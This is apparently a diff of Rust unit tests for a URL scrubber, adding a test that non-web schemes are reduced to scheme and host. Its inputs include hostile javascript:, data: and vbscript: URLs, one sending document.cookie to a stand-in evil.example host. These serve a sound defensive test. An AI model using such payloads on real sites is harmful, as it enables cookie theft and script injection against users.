@@ -197,8 +197,9 @@ fn personal_data_is_scrubbed_from_urls() {
         ),
         ("https://app.example/p#", "https://app.example/p"),
         ("https://app.example/p#?a=1", "https://app.example/p"),
-        // Text that is not a URL is scrubbed as text.
-        ("mailto:ada@example.com", "mailto:[email]"),
+        // A URL of another scheme keeps its scheme; text that is not a URL
+        // is scrubbed as text.
+        ("mailto:ada@example.com", "mailto:"),
         ("not a url ada@example.com", "not a url [email]"),
     ] {
         assert_eq!(s(raw).url, want, "{raw}");
@@ -232,6 +233,38 @@ fn long_and_hostile_urls_are_bounded() {
         "?=",
     ] {
         let _ = s(raw);
+    }
+}
+
+#[test]
+fn other_schemes_keep_only_scheme_and_host() {
+    for (raw, kept) in [
+        ("javascript:alert(document.cookie)", "javascript:"),
+        (
+            "JavaScript:fetch('//evil.example/?c='+document.cookie)",
+            "javascript:",
+        ),
+        ("  javascript:void(0)", "javascript:"),
+        (
+            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            "data:",
+        ),
+        ("vbscript:msgbox(1)", "vbscript:"),
+        ("file:///home/ada/notes.html", "file:"),
+        ("blob:https://shop.example/1f7e0c9a", "blob:"),
+        ("mailto:ada@example.com?subject=hi", "mailto:"),
+        (
+            "android-app://com.google.android.gm/",
+            "android-app://com.google.android.gm",
+        ),
+        (
+            "ftp://ada:secret@Files.Example/pub/cv.pdf",
+            "ftp://files.example",
+        ),
+    ] {
+        let scrubbed = s(raw);
+        assert_eq!(scrubbed.url, kept, "{raw}");
+        assert_eq!((scrubbed.host, scrubbed.path.as_str()), (None, ""), "{raw}");
     }
 }
 
